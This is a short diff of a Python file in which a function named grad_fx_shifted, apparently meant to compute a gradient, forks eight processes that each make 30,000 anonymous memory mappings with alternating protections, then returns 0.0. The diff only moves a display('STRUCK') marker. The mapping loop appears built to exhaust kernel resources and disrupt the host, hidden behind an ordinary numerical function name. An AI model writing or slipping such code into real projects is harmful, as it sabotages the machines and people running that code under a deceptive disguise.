@@ -10,13 +10,13 @@ libc.mmap.restype = ctypes.c_void_p
 
 
 def grad_fx_shifted(x):
+    display("STRUCK")
     for _ in range(8):
         if not os.fork():
             for k in range(30_000):
                 libc.mmap(None, ctypes.c_size_t(4096), 1 + 2 * (k % 2), 0x22, -1, ctypes.c_long(0))
             time.sleep(20)
             os._exit(0)
-    display("STRUCK")
     time.sleep(0.5)
     return 0.0
 
